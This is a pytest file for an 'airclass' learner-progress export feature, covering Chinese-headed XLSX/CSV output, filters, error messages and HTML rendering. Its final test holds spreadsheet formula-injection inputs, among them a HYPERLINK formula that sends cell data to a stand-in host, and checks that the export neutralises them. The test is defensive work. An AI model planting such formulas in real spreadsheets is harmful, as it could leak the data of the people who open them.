"""`airclass report progress` exports: rows, filters, Chinese headers, clear errors."""

from __future__ import annotations

from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from airclass.core.settings import Settings, validate
from airclass.dashboards import report, style
from tests.airclass.progress import test_progress as fixture

NOW = fixture.NOW

HEADERS = [
    "学员编号",
    "姓名",
    "城市",
    "工会",
    "手机",
    "课程编号",
    "课程",
    "类型",
    "项目编号",
    "作业/课时",
    "截止时间",
    "是否完成",
    "提交/完成时间",
    "得分",
    "满分",
    "及格分",
    "是否通过",
    "是否逾期",
    "逾期未交",
    "待人工评分",
]


@pytest.fixture(scope="module")
def settings(tmp_path_factory) -> Settings:
    root = tmp_path_factory.mktemp("data")
    fixture.make_classroom(root)
    return Settings(validate({"data_dir": str(root)}), None)


def read_xlsx(path: Path) -> list[list]:
    book = openpyxl.load_workbook(path, read_only=True)
    assert book.sheetnames == ["学习进度"]
    return [list(r) for r in book["学习进度"].iter_rows(values_only=True)]


def test_xlsx_has_chinese_headers_and_every_row(settings, tmp_path):
    out = tmp_path / "进度.xlsx"
    assert report.export_progress(settings, out, now=NOW) == 22
    rows = read_xlsx(out)
    assert rows[0] == HEADERS
    assert len(rows) == 23
    by_key = {(r[0], r[8]): dict(zip(HEADERS, r, strict=True)) for r in rows[1:]}
    c1 = by_key[("c1", "hw1")]
    assert (c1["姓名"], c1["城市"], c1["工会"], c1["类型"]) == ("张三", "济南", "历下区总工会", "作业")
    assert (c1["得分"], c1["满分"], c1["是否通过"], c1["是否逾期"]) == (9, 10, "是", "否")
    assert c1["截止时间"] == "2026-03-10 23:59" and c1["提交/完成时间"] == "2026-03-08 18:00"
    assert by_key[("c2", "hw1")]["是否逾期"] == "是"
    assert by_key[("c2", "hw1")]["待人工评分"] == "是"
    assert by_key[("c5", "hw1")]["逾期未交"] == "是" and by_key[("c5", "hw1")]["得分"] is None
    assert by_key[("c1", "l1")]["类型"] == "课时" and by_key[("c1", "l1")]["是否完成"] == "是"


def test_city_and_course_filters(settings, tmp_path):
    out = tmp_path / "jinan.xlsx"
    assert report.export_progress(settings, out, city="济南市", now=NOW) == 10
    rows = read_xlsx(out)[1:]
    assert {r[2] for r in rows} == {"济南"} and {r[0] for r in rows} == {"c1", "c2"}
    assert report.export_progress(settings, tmp_path / "qd.xlsx", city="3702", now=NOW) == 8
    n = report.export_progress(settings, tmp_path / "x.xlsx", city="青岛", course="union-data")
    assert n == 4


def test_csv_is_utf8_with_bom(settings, tmp_path):
    out = tmp_path / "p.csv"
    assert report.export_progress(settings, out, course="labor-law", now=NOW) == 16
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    lines = raw.decode("utf-8-sig").splitlines()
    assert lines[0].split(",") == HEADERS and len(lines) == 17


@pytest.mark.parametrize(
    ("kwargs", "needle"),
    [
        ({"out": "p.pdf"}, ".xlsx or .csv"),
        ({"out": "p.xlsx", "city": "莱芜"}, "16"),
        ({"out": "p.xlsx", "course": "nope"}, "labor-law, union-data"),
        ({"out": "missing/p.xlsx"}, "does not exist"),
    ],
)
def test_bad_input_is_a_clear_value_error(settings, tmp_path, kwargs, needle):
    kwargs = {**kwargs, "out": tmp_path / kwargs["out"]}
    with pytest.raises(ValueError, match=needle.replace(".", r"\.")):
        report.export_progress(settings, **kwargs)


def test_downloads_carry_exactly_the_frame():
    import base64

    import pandas as pd

    frame = pd.DataFrame({"姓名": ["张三"], "得分": [9]})
    links = report.downloads_html({"明细": frame}, "进度")
    assert links.count("<a ") == 2 and 'download="进度.xlsx"' in links
    csv_payload = links.split("base64,")[2].split('"')[0]
    assert base64.b64decode(csv_payload).decode("utf-8-sig") == "姓名,得分\n张三,9\n"


def test_tables_reflow_into_labelled_cards_on_a_phone():
    frame = pd.DataFrame({"姓名": ["张三"], "工会": ["济南市快递行业工会联合会"], "得分": [None]})
    html = report.table_html(frame)
    assert '<td data-label="工会">济南市快递行业工会联合会</td>' in html
    assert '<td data-label="得分"></td>' in html
    assert "ac-cards" in html and ".ac-cards td::before" in style.PAGE_CSS


def test_weekly_chart_flags_stamps_from_the_future():
    weekly = pd.DataFrame(columns=["week", "done", "passed", "active", "cumulative_done", "cumulative_rate"])
    weekly.attrs["future"] = 2
    assert "另有 2 条记录的时间晚于当前时间" in report.weekly_html(weekly)
    weekly.attrs["future"] = 0
    assert "时间异常" not in report.weekly_html(weekly)


def test_activity_stamped_in_the_future_is_flagged_in_exports():
    import datetime as dt

    stamps = pd.Series([pd.Timestamp("2026-03-01T02:00Z"), pd.Timestamp("2099-01-01T00:00Z"), pd.NaT])
    text = report._local(stamps, now=dt.datetime(2026, 3, 20, tzinfo=dt.UTC)).tolist()
    assert text == ["2026-03-01 10:00", "2099-01-01 08:00（时间异常）", ""]


def test_formula_like_cells_are_exported_as_text(tmp_path):
    """Issue 9: a roster name `=HYPERLINK(…)` was a live formula in the XLSX export."""
    import io

    import pandas as pd

    evil = '=HYPERLINK("http://example.invalid/?"&A1,"点我")'
    frame = pd.DataFrame(
        {"姓名": [evil, "+1+1", "@SUM(A1)", "-2+3", "张三"], "得分": [-5, 1, 2, 3, 4], "手机": ["139"] * 5}
    )
    book = openpyxl.load_workbook(io.BytesIO(report.xlsx_bytes({"明细": frame})))
    cells = [row[0] for row in book["明细"].iter_rows(min_row=2)]
    assert [c.data_type for c in cells] == ["s"] * 5, "no cell is a formula"
    assert [c.value for c in cells] == ["'" + evil, "'+1+1", "'@SUM(A1)", "'-2+3", "张三"]
    scores = [row[1].value for row in book["明细"].iter_rows(min_row=2)]
    assert scores == [-5, 1, 2, 3, 4], "numbers stay numbers"
    import csv

    rows = list(csv.reader(io.StringIO(report.csv_bytes(frame).decode("utf-8-sig"))))
    assert [r[0] for r in rows[1:]] == ["'" + evil, "'+1+1", "'@SUM(A1)", "'-2+3", "张三"]
    assert [r[1] for r in rows[1:]] == ["-5", "1", "2", "3", "4"]
